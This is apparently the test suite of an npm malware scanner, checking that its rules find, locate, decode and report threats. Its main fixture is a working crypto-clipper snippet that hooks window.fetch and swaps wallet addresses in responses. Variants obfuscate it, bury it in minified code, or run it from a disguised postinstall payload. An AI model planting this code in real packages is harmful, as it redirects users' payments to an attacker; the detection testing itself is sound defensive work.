from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import msgspec
import pytest

from npmguard.config import Limits
from npmguard.detect.analyse import (
    CodeAnalysis,
    analyse_package,
    is_source,
    missing_sources,
    named_files,
    sources,
)
from npmguard.detect.rule import Ruleset, load_ruleset
from npmguard.detect.rule_test import archive_of
from npmguard.detect.verdict import verdict_of
from npmguard.model import Manifest, PackageArchive, PackageFile, Verdict

RULESET = load_ruleset()
CLIPPER = """\
const original = window.fetch;

window.fetch = async function (...args) {
  const text = await (await original.apply(this, args)).text();
  return new Response(text.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, "0x1111111111111111111111111111111111111111"));
};
"""


def analyse(files: Mapping[str, str], before: Mapping[str, str] | None = None, **limits: float) -> CodeAnalysis:
    old = archive_of(before) if before is not None else None
    return analyse_package(archive_of(files), RULESET, replace_limits(limits), baseline=old)


def replace_limits(limits: Mapping[str, float]) -> Limits:
    return msgspec.convert({**msgspec.to_builtins(Limits()), **_kebab(limits)}, Limits)


def _kebab(limits: Mapping[str, float]) -> dict[str, float]:
    return {key.replace("_", "-"): value for key, value in limits.items()}


def test_a_finding_says_where_and_shows_the_source() -> None:
    (finding,) = [each for each in analyse({"lib/a.js": CLIPPER}).findings if each.confidence == "high"]
    assert (finding.rule, finding.file, finding.line) == ("address-swap-in-network-hook", "lib/a.js", 3)
    assert finding.evidence[0].excerpt is not None
    assert finding.evidence[0].excerpt.startswith("window.fetch = async function (...args) {")
    assert finding.remediation
    assert finding.added is None
    assert {each.added for each in finding.evidence} == {None}


def test_excerpts_are_short_and_of_one_line() -> None:
    minified = "x();" * 5_000 + CLIPPER.replace("\n", "") + "y();" * 5_000
    for finding in analyse({"a.js": minified}).findings:
        for each in finding.evidence:
            assert each.excerpt is not None
            assert len(each.excerpt) <= 160
            assert "\n" not in each.excerpt


def test_what_the_source_hides_is_shown_decoded() -> None:
    hidden = CLIPPER.replace("window.fetch =", "window['fe' + 'tch'] =").replace("0x1111", "0x' + '1111")
    evidence = [
        each for finding in analyse({"a.js": hidden.replace('"', "'")}).findings for each in finding.evidence
    ]
    assert {"fetch", "0x1111111111111111111111111111111111111111"} <= {each.decoded for each in evidence}


def test_the_same_package_gives_the_same_result() -> None:
    files = {f"lib/{name}.js": CLIPPER for name in "cab"}
    assert analyse(files) == analyse(dict(reversed(files.items())))
    order = [(each.rule, each.file) for each in analyse(files).findings]
    assert order == sorted(order)
    assert len(order) >= len(files)


@pytest.mark.parametrize(
    ("before", "added"),
    [
        ({"a.js": "exports.a = 1;"}, True),
        ({"a.js": CLIPPER}, False),
        ({"b.js": CLIPPER}, False),  # the same bytes, moved
        ({"a.js": CLIPPER + "\nexports.more = 1;"}, False),  # other bytes, the same signals
        ({"b.js": CLIPPER + "\nexports.more = 1;"}, True),
        ({}, True),
    ],
)
def test_a_finding_says_whether_it_is_new(before: dict[str, str], *, added: bool) -> None:
    findings = analyse({"a.js": CLIPPER}, before).findings
    assert findings
    assert {finding.added for finding in findings} == {added}
    assert verdict_of(findings) is Verdict.MALICIOUS


def test_only_the_new_part_of_a_finding_is_marked_new() -> None:
    before = CLIPPER.replace('"0x1111111111111111111111111111111111111111"', "address")
    (finding,) = [
        each for each in analyse({"a.js": CLIPPER}, {"a.js": before}).findings if each.confidence == "high"
    ]
    assert finding.added
    assert {each.signal for each in finding.evidence if each.added} == {"wallet-address"}


def rules_of(folder: Path, *, added: bool = False, introduced: bool = False) -> Ruleset:
    (folder / "speaks.yml").write_text(
        "{id: speaks, kind: signal, title: t, description: d, match: {all: [{call: console.log}]}, examples:"
        " {match: [{name: a, code: a}, {name: b, code: b}],"
        " no_match: [{name: c, code: c}, {name: d, code: d}]}}",
        encoding="utf-8",
    )
    (folder / "mine.yml").write_text(
        "{id: mine, kind: rule, title: t, severity: high, confidence: high, description: d, false_positives: f,"
        f" remediation: r, scope: file, added: {str(added).lower()}, introduced: {str(introduced).lower()},"
        " match: {all: [speaks]}, examples:"
        " {match: [{name: a, code: a, before: a}, {name: b, code: b}],"
        " no_match: [{name: c, code: c}, {name: d, code: d}]}}",
        encoding="utf-8",
    )
    return load_ruleset([str(folder)])


@pytest.mark.parametrize(
    ("before", "found"), [(None, True), ("console.log(2)", False), ("console.error(1)", True)]
)
def test_a_rule_about_what_was_added_is_held_to_that(
    tmp_path: Path, before: str | None, *, found: bool
) -> None:
    ruleset = rules_of(tmp_path, added=True)
    old = archive_of({"a.js": before}) if before else None
    analysis = analyse_package(archive_of({"a.js": "console.log(1)"}), ruleset, Limits(), baseline=old)
    assert bool(analysis.findings) is found


@pytest.mark.parametrize(
    ("before", "found"),
    [
        (None, False),  # nothing to compare with: nothing is known to be new
        ({"a.js": "console.warn(2)"}, True),
        ({"a.js": "console.log(2)"}, False),
        ({"a.js": "console.warn(1)", "b.js": "console.log(2)"}, False),  # it was elsewhere in the package
    ],
)
def test_a_rule_about_what_was_introduced_is_held_to_that(
    tmp_path: Path, before: dict[str, str] | None, *, found: bool
) -> None:
    ruleset = rules_of(tmp_path, introduced=True)
    old = archive_of(before) if before else None
    analysis = analyse_package(archive_of({"a.js": "console.log(1)"}), ruleset, Limits(), baseline=old)
    assert [it.rule for it in analysis.findings if it.rule == "mine"] == ["mine"] * found


def package(files: Mapping[str, PackageFile], fields: Mapping[str, object] | None = None) -> PackageArchive:
    archive = archive_of({"package.json": json.dumps({"name": "p", "version": "1.0.0"})})
    manifest = msgspec.convert({"name": "p", "version": "1.0.0", **(fields or {})}, Manifest)
    return replace(archive, files={**archive.files, **files}, manifest=manifest)


def file(path: str, text: str = CLIPPER) -> PackageFile:
    return archive_of({path: text}).files[path]


@pytest.mark.parametrize(
    "path", ["a.js", "a.cjs", "a.mjs", "a.jsx", "a.ts", "a.mts", "a.cts", "a.tsx", "a.test.js", "cli"]
)
def test_source_files_are_kept(path: str) -> None:
    assert is_source(path, 10)
    assert not is_source(path, 0)


@pytest.mark.parametrize("path", ["a.md", "a.json", "a.node", "a.html", "a.js.map", "dist/a.css"])
def test_other_files_are_not(path: str) -> None:
    assert not is_source(path, 10)


@pytest.mark.parametrize(
    ("path", "fields", "read"),
    [
        ("a.js", {}, True),
        ("bin/run", {"bin": {"run": "./bin/run"}}, True),
        ("bin/run", {}, False),
        ("payload.dat", {"main": "payload.dat"}, True),
        ("payload.dat", {"scripts": {"postinstall": "node ./payload.dat --quiet"}}, True),
        ("payload.dat", {"scripts": {"postinstall": "echo hi && node -r ./payload.dat x.js"}}, True),
        ("payload.dat", {"scripts": {"test": "cat payload.dat"}}, False),
        ("README.md", {"scripts": {"lint": "prettier --check README.md"}}, False),
        ("data.json", {"main": "data.json"}, False),
        ("a.d.ts", {}, False),
        ("a.d.ts", {"main": "a.d.ts"}, True),
    ],
)
def test_what_node_would_run_is_read(path: str, fields: dict[str, object], *, read: bool) -> None:
    assert [each.path for each in sources(package({path: file(path)}, fields))] == ([path] if read else [])


def test_a_file_without_extension_is_read_where_its_first_line_names_node() -> None:
    assert sources(package({"run": file("run", "#!/usr/bin/env node\n" + CLIPPER)}))
    assert not sources(package({"run": file("run", "#!/bin/sh\necho hi\n")}))


def test_declarations_are_read_where_a_file_asks_for_one() -> None:
    asking = file("a.js", "require('./b.d.ts');")
    assert [each.path for each in sources(package({"a.js": asking, "b.d.ts": file("b.d.ts")}))] == [
        "a.js",
        "b.d.ts",
    ]


def test_an_empty_declaration_hides_nothing() -> None:
    asking = file("a.js", "require('./b.d.ts'); require('./c.d.ts');")
    left = replace(file("b.d.ts", ""), content=None)
    analysis = analyse_package(package({"a.js": asking, "b.d.ts": left}), RULESET, Limits())
    assert analysis == CodeAnalysis()


def test_machine_code_is_no_source() -> None:
    program = replace(file("bin/run"), content=b"\x7fELF\x02\x01\x01" + bytes(5_000), size=5_007)
    named = package({"bin/run": program}, {"bin": {"run": "bin/run"}})
    limits = msgspec.structs.replace(Limits(), source_bytes=4_000)
    assert analyse_package(named, RULESET, limits) == CodeAnalysis()


def test_code_under_an_odd_name_is_found_or_missed_aloud() -> None:
    scripts = {"scripts": {"postinstall": "node payload.dat"}}
    held = package({"payload.dat": file("payload.dat")}, scripts)
    assert verdict_of(analyse_package(held, RULESET, Limits()).findings) is Verdict.MALICIOUS
    assert missing_sources(held) == frozenset()
    left = package({"payload.dat": replace(file("payload.dat"), content=None)}, scripts)
    analysis = analyse_package(left, RULESET, Limits())
    assert missing_sources(left) == {"payload.dat"}
    assert analysis.unverified is not None
    assert "payload.dat is run as code" in analysis.unverified


def test_named_files_of_no_manifest() -> None:
    assert named_files(None) == frozenset()


def test_a_file_over_the_cap_is_not_passed_in_silence() -> None:
    analysis = analyse({"a.js": CLIPPER, "b.js": "x" * 5_000}, source_bytes=4_000)
    assert analysis.findings
    assert analysis.unverified == (
        "b.js was read in part only: larger than source-bytes (5000 > 4000 bytes): 0 of its 2 parts were read"
    )


def test_time_over_the_cap_is_told_and_what_was_found_stays() -> None:
    analysis = analyse({f"{index}.js": CLIPPER for index in range(50)}, analysis_seconds=1e-9)
    assert analysis.unverified is not None
    assert "analysis-seconds" in analysis.unverified


def test_syntax_errors_are_listed_and_the_rest_is_read() -> None:
    analysis = analyse({"a.js": CLIPPER + "\nconst = = ;\n"})
    assert [path for path, _ in analysis.partial] == ["a.js"]
    assert analysis.unverified is None
    assert verdict_of(analysis.findings) is Verdict.MALICIOUS


def test_nothing_in_a_package_turns_the_scan_off() -> None:
    files = {
        ".npmguardignore": "*",
        "npmguard.toml": "fail-on = 'never'\n[limits]\nsource-bytes = 1",
        ".eslintignore": "a.js",
        "a.js": "/* npmguard-disable */ // npmguard: ignore\n" + CLIPPER,
    }
    assert verdict_of(analyse(files).findings) is Verdict.MALICIOUS


def test_an_empty_package_is_clean() -> None:
    assert analyse({}) == CodeAnalysis()


def test_a_file_that_the_parser_refuses_is_never_clean() -> None:
    nested = f"{CLIPPER}\nx = {'(' * 100_000}1{')' * 100_000};\n"
    result = analyse({"index.js": nested})
    assert result.unverified is not None
    assert "index.js" in result.unverified
    assert verdict_of(result.findings, result.unverified) is not Verdict.CLEAN
